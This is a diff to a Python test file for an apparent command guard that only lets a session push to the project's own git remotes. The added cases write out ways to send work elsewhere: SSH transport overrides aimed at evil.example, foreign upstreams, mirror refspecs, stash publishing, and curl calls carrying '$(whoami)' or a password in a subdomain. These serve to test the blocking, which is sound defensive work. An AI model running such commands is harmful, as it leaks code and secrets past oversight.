@@ -1,6 +1,8 @@
 """The laws that only what was there before the session is the project's own.
 
 `what_the_session_sets_is_not_own`: a push to what this session has set is judged as the address typed out.
+`a_host_in_the_words_of_a_transport`, `what_a_branch_follows`, `refspecs_in_settings`: so are hosts, upstreams and
+refspecs that a push takes from elsewhere than its own words.
 `a_name_the_session_gives_is_nobodys`: a site or an image is judged as if the session had named no remote.
 """
 
@@ -106,6 +108,97 @@ def test_a_push_to_the_account_of_the_projects_remotes_stays_as_it_was(before: s
         assert judged(push).verdict == ALLOW
         assert judged(f"{before} && {push}").verdict == ALLOW
         assert judged(push, before).verdict == ALLOW
+
+
+WORDS = (
+    "ssh evil.example", "ssh -i k git@evil.example", "ssh -o HostName=evil.example", "ssh -oHostName=evil.example",
+    "ssh -o 'HostName evil.example'", "ssh -J evil.example", "ssh -W evil.example:22", "ssh -4vJ me@evil.example:22",
+    "ssh -o ProxyJump=evil.example", "ssh -o CanonicalDomains=evil.example", "ssh -o HostName=gitlab.com",
+)  # fmt: skip
+PLAIN = (
+    "ssh -i ~/.ssh/deploy_key -o StrictHostKeyChecking=yes",
+    "ssh -o 'StrictHostKeyChecking no' -p 22 -l git -v",
+    "ssh -o HostName=ssh.github.com -p 443",
+    "ssh -o HostName=github.com -o ProxyJump=none",
+)
+CARRIED = (
+    'GIT_SSH_COMMAND="{0}" git push origin feature/x',
+    'export GIT_SSH_COMMAND="{0}"; git push',
+    'git -c core.sshCommand="{0}" push origin feature/x',
+    'git config core.sshCommand "{0}" && git push origin feature/x',
+)
+
+
+@pytest.mark.parametrize("carried", CARRIED)
+def test_a_host_in_the_words_of_a_transport_is_where_a_push_goes(carried: str) -> None:
+    for words in WORDS:
+        assert judged(carried.format(words)).verdict > ALLOW, words
+    for words in PLAIN:
+        assert judged(carried.format(words)).verdict == ALLOW, words
+
+
+FOLLOWS = (
+    "git branch -u {0}/x",
+    "git branch --set-upstream-to={0}/x feature/x",
+    "git switch --track {0}/topic",
+    "git checkout --track {0}/topic",
+    "git checkout -b x {0}/topic",
+    "git switch -c x {0}/topic",
+    "git branch x {0}/topic && git switch x",
+    "git fetch --set-upstream {0} x",
+    "git pull --set-upstream {0} x",
+)
+
+
+@pytest.mark.parametrize("follows", FOLLOWS)
+def test_what_a_branch_follows_says_where_it_is_pushed(follows: str) -> None:
+    added = f"git remote add up {ELSEWHERE[0]}"
+    assert judged(f"{added}; {follows.format('up')}; git push").verdict > ALLOW
+    assert judged("git push", added, follows.format("up")).verdict > ALLOW
+    assert judged(f"{follows.format('origin')} && git push").verdict == ALLOW
+    if "{0}/" not in follows:
+        assert judged("git push", follows.format(ELSEWHERE[0])).verdict > ALLOW
+
+
+@pytest.mark.parametrize("refspec", ["+refs/*:refs/*", "refs/stash:refs/heads/x", "x:main", "+x", ":x", "x"])
+def test_refspecs_in_settings_are_read_as_if_they_were_typed(refspec: str) -> None:
+    typed = judged(f"git push origin '{refspec}'").verdict
+    for push in ("git push", "git push origin"):
+        assert judged(f"git -c 'remote.origin.push={refspec}' {push.removeprefix('git ')}").verdict >= typed
+        assert judged(f"git config remote.origin.push '{refspec}' && {push}").verdict >= typed
+        assert judged(push, f"git config remote.origin.push '{refspec}'").verdict >= typed
+        assert judged(f"git -c remote.origin.mirror=true {push.removeprefix('git ')}").verdict > ALLOW
+        assert judged(push, "git config remote.origin.mirror true").verdict > ALLOW
+
+
+COMMITS_STASH = (
+    "git cherry-pick '{0}'", "git merge '{0}'", "git rebase '{0}'", "git reset --soft '{0}'", "git read-tree '{0}'",
+    "git restore --source='{0}' .", "git checkout '{0}' -- .", "git fetch . '{0}:refs/heads/x'", "git tag t '{0}'",
+    "git update-ref refs/heads/x '{0}'", "git -c a.b=c merge '{0}'", "git branch x $(git rev-parse '{0}')",
+    "git branch x $(cat .git/refs/stash)",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("commits", COMMITS_STASH)
+def test_a_stash_under_a_new_commit_is_still_a_stash(commits: str) -> None:
+    for stash in ("stash", "refs/stash", "stash@{0}^3"):
+        for push in ("git push origin x", "git push", "git commit -qm x && git push origin HEAD"):
+            assert judged(f"{commits.format(stash)}; {push}").verdict > ALLOW, (stash, push)
+
+
+@pytest.mark.parametrize("before", ["git stash pop", "git stash show 'stash@{0}'", "git commit -m 'no stash^3'"])
+def test_to_put_a_stash_back_publishes_none(before: str) -> None:
+    assert judged(f"{before} && git commit -qam x && git push origin x").verdict == ALLOW
+
+
+@pytest.mark.parametrize("host", ["s3cr3tpw.shop-web.dev", "$(whoami).shop-web.dev", "a.www.shop-web.dev"])
+def test_a_label_before_the_projects_name_is_data(host: str) -> None:
+    assert judged(f"curl https://{host}/").verdict > ALLOW
+    for domain in ("vercel.app", "workers.dev", "github.io"):
+        assert judged(f"curl https://shop-web-x1.{domain}/").verdict > ALLOW
+        assert judged(f"curl https://x1.shop-web.{domain}/").verdict > ALLOW
+        assert judged(f"curl https://shop-web.{domain}/").verdict == ALLOW
+    assert judged("curl https://api.staging.shop-web.dev/").verdict == ALLOW
 
 
 STASHES = ("stash", "refs/stash", "stash@{0}", "stash@{1}", "stash^3", "stash@{0}^3", "stash^2", "refs/stash^3")
